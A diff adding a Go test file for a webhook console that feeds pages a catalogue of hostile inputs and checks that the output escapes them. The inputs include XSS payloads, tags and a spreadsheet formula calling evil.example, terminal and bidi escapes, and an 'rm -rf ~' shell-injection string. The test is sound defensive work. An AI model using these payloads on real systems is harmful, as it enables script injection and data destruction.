@@ -1,0 +1,194 @@
+package console_test
+
+import (
+	"fmt"
+	"maps"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/google/uuid"
+
+	"hooktape/internal/event"
+)
+
+// hostile are texts that would do something if they were not text, by what they are.
+var hostile = map[string]string{
+	"script":               `<script>alert('pwned')</script>`,
+	"closed attribute":     `"><script>alert('pwned')</script>`,
+	"single quote":         `' onmouseover='alert(1)' x='`,
+	"image":                `<img src=x onerror=alert('pwned')>`,
+	"image from elsewhere": `<img src="http://evil.example/pixel.png">`,
+	"svg":                  `<svg/onload=alert('pwned')>`,
+	"iframe":               `<iframe src="javascript:alert('pwned')"></iframe>`,
+	"style":                `<style>@import url(http://evil.example/x.css);*{display:none}</style>`,
+	"link":                 `<link rel=stylesheet href=http://evil.example/x.css>`,
+	"base":                 `<base href="http://evil.example/">`,
+	"meta refresh":         `<meta http-equiv="refresh" content="0;url=http://evil.example/">`,
+	"form":                 `</form><form action="http://evil.example/"><button>Replay</button></form>`,
+	"htmx":                 `<div hx-get="http://evil.example/" hx-trigger="load"></div><div hx-post="/replays" hx-trigger="load"></div>`,
+	"closed element":       `</td></tr></table></main></body></html>`,
+	"comment":              `<!-- `,
+	"closed title":         `</title></textarea></style></noscript><b>bold</b>`,
+	"template action":      `{{.Secret}}{{template "login"}}`,
+	"javascript URL":       `javascript:alert('pwned')`,
+	"data URL":             `data:text/html,<script>alert('pwned')</script>`,
+	"terminal escape":      "\x1b[2J\x1b]0;pwned\x07\x1b[31mred",
+	"bidi override":        "user\u202egnp.exe\u2066\u2069",
+	"zero width":           "pay\u200bpal\u2060\ufeff",
+	"control characters":   "a\x00b\x01c\x08\x7f\u0085d",
+	"line separators":      "one\u2028two\u2029three\r\nfour",
+	"no UTF-8":             "caf\xe9 \xff\xfe \xc0\xaf",
+	"tag characters":       "a\U000e0041\U000e0042",
+	"private use":          "a\ue000b",
+	"stacked marks":        "Z" + strings.Repeat("\u0310\u0321\u0334", 60) + "algo",
+	"entity":               `&lt;script&gt;&#60;b&#62;&amp;`,
+	"formula":              `=HYPERLINK("http://evil.example/","x")`,
+	"shell":                "'; rm -rf ~ #`id` $(id)\n\\",
+	"megabyte":             strings.Repeat("x", 1<<20),
+	"deep":                 strings.Repeat("[", 5000) + strings.Repeat("]", 5000),
+}
+
+// hostileEvent has a text everywhere where somebody outside can write one.
+func hostileEvent(id, text string, ago time.Duration) event.Event {
+	e := newEvent(text, ago)
+	e.Step, e.Query, e.Path, e.Method = text, text, "/hooks/demo/***/"+text, text
+	e.Headers = []event.Header{{Name: "X-" + text, Value: text}, {Name: text, Value: text}}
+	e.BothelpUserID, e.MessengerUserID, e.MessengerUsername, e.CUID, e.Ref = id, text, text, text, text
+	e.Name, e.FirstName, e.LastName, e.Email, e.Phone, e.ProfileLink, e.Channel = text, text, text, text, text, text, text
+	e.UTMSource, e.UTMMedium, e.UTMCampaign, e.UTMContent, e.UTMTerm = text, text, text, text, text
+	e.Fields, e.DecodeError = map[string]string{text: text, "plain": text}, text
+	e.Kind, e.Verdict = event.KindFlow, event.Accepted
+	return e
+}
+
+// hostileFixture has an event of each kind of text, all of one subscriber, and a replay to a receiver that answers with
+// hostile text as well.
+func hostileFixture(t *testing.T) (*fixture, event.Event, uuid.UUID) {
+	f := newFixture(t)
+	f.sink.answers(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("X-Evil", `<script>alert('pwned')</script>`)
+		w.WriteHeader(http.StatusBadRequest)
+		fmt.Fprint(w, hostile["image"]+hostile["terminal escape"]+hostile["bidi override"]+hostile["closed attribute"])
+	})
+	var events []event.Event
+	for _, name := range slices.Sorted(maps.Keys(hostile)) { // so that each run looks at the same pages; a megabyte of one line takes a browser seconds
+		text := hostile[name]
+		ago := time.Minute + time.Duration(len(events))*time.Second
+		e := hostileEvent("evil", text, ago)
+		if name == "megabyte" { // no request is larger than that altogether
+			e = hostileEvent("evil", text[:10_000], ago)
+			e.Body, e.Name, e.Method, e.Headers = []byte(text), text, "POST", nil
+		}
+		events = append(events, e)
+	}
+	for name, text := range hostile { // anybody can post to a source that is none
+		e := newEvent("", time.Minute)
+		e.Source, e.Verdict = text[:min(len(text), 10_000)], event.UnknownSource
+		if name != "megabyte" {
+			events = append(events, e)
+		}
+	}
+	f.insert(events...)
+	id := f.replayOf(f.login(adminSecret), "since=1h&endpoint=crm&mode=all")
+	return f, events[0], id
+}
+
+// TestHostileText looks at every page with hostile text of all kinds in it: no script of it runs, nothing is asked from
+// elsewhere, no element of it is made, and nothing that hides or turns text is in the page as such.
+func TestHostileText(t *testing.T) {
+	t.Parallel()
+	f, e, replayed := hostileFixture(t)
+	if len(hostile) < 20 {
+		t.Fatalf("%d kinds are too few", len(hostile))
+	}
+	b := f.browser(adminSecret)
+	looked := pages(e, replayed)
+	list, err := f.db.Events(background, idsOf(t, f))
+	if err != nil || len(list) != 2*len(hostile)-1 {
+		t.Fatalf("%d events are stored, %v", len(list), err)
+	}
+	for _, e := range list { // of the others TestHostileHTML has the pages
+		if slices.Contains([]string{hostile["script"], hostile["image"], hostile["htmx"], hostile["closed attribute"], hostile["control characters"], hostile["bidi override"], hostile["megabyte"], hostile["no UTF-8"]}, string(e.Body)) {
+			looked = append(looked, "/events/"+e.ID.String())
+		}
+	}
+	looked = append(looked, "/?text="+"%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/?step=%E2%80%AE%1B%5B2J", "/?field=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E%3D1", "/nowhere/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+		"/?cursor=%3Cscript%3E", "/subscribers/"+url.PathEscape(hostile["bidi override"]), "/subscribers/"+url.PathEscape(hostile["control characters"]), "/?%3Cscript%3Ealert(1)%3C%2Fscript%3E=1", "/subscribers/%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/replays?endpoint=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+		"/replays?endpoint=javascript:alert(1)", "/events/"+e.ID.String()+"?all=1")
+	for _, page := range looked {
+		b.Open(f.url + page)
+		b.Await(`document.querySelector('h1') && !document.querySelector('[hx-trigger=load]:has(p.hint)')`)
+		var wrong []string
+		b.Script(`(() => {
+			const wrong = []
+			for (const e of document.querySelectorAll('script, iframe, img, style, base, object, embed, link, meta[http-equiv=refresh]'))
+				if (!e.closest('head') || !(e.src || e.href || '').startsWith(location.origin + '/assets/')) wrong.push(e.outerHTML.slice(0, 200))
+			for (const e of document.querySelectorAll('*')) for (const a of e.attributes) {
+				if (a.name.startsWith('on') || a.name === 'style') wrong.push(a.name + ' of ' + e.outerHTML.slice(0, 200))
+				if (['href', 'action', 'hx-get', 'hx-post', 'formaction', 'src'].includes(a.name) && /^\s*(javascript|data|vbscript):/i.test(a.value)) wrong.push(a.name + '=' + a.value.slice(0, 200))
+				if (a.name === 'action' && !a.value.startsWith('/')) wrong.push('action=' + a.value)
+			}
+			const text = document.documentElement.textContent
+			const bad = text.match(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff]/)
+			if (bad) wrong.push('the character U+' + bad[0].charCodeAt(0).toString(16))
+			return wrong
+		})()`, &wrong)
+		for _, w := range wrong {
+			t.Errorf("%s: %s", page, w)
+		}
+	}
+	f.assertClean(b)
+}
+
+func idsOf(t *testing.T, f *fixture) (ids []uuid.UUID) {
+	t.Helper()
+	events, err := f.db.ListEvents(background, event.Selection{}, pageOf(1000))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, e := range events {
+		ids = append(ids, e.ID)
+	}
+	return ids
+}
+
+// TestHostileHTML says the same of the bytes of the pages, without a browser's good will.
+func TestHostileHTML(t *testing.T) {
+	t.Parallel()
+	f, e, replayed := hostileFixture(t)
+	p := f.login(adminSecret)
+	looked := pages(e, replayed)
+	for _, id := range idsOf(t, f) {
+		looked = append(looked, "/events/"+id.String())
+	}
+	for _, path := range looked {
+		a := p.get(path)
+		if a.status != http.StatusOK || len(a.body) > 2<<20 {
+			t.Errorf("%s: %d, %d bytes", path, a.status, len(a.body))
+		}
+		for _, markup := range []string{"<script>", "<img", "onerror=alert", "<iframe", "<style", "<base", "onload=", "\x1b", "\u202e", "\x00", `href="javascript`, "style=\""} {
+			text := a.body
+			if markup == "onerror=alert" || markup == "onload=" { // as text it stands there, escaped
+				text = strings.NewReplacer("&lt;img src=x onerror=alert", "", "&lt;svg/onload=", "").Replace(text)
+			}
+			if strings.Contains(text, markup) {
+				t.Errorf("%s has %q in it", path, markup)
+			}
+		}
+		if got := a.header.Get("Content-Security-Policy"); !strings.HasPrefix(got, "default-src 'none'; script-src 'self'; style-src 'self'") || strings.Contains(got, "unsafe") {
+			t.Errorf("%s comes with the policy %q", path, got)
+		}
+	}
+}
+
+// serve serves a handler on a port of its own, and returns its URL.
+func serve(t *testing.T, handler http.Handler) string {
+	server := httptest.NewServer(handler)
+	t.Cleanup(server.Close)
+	return server.URL
+}
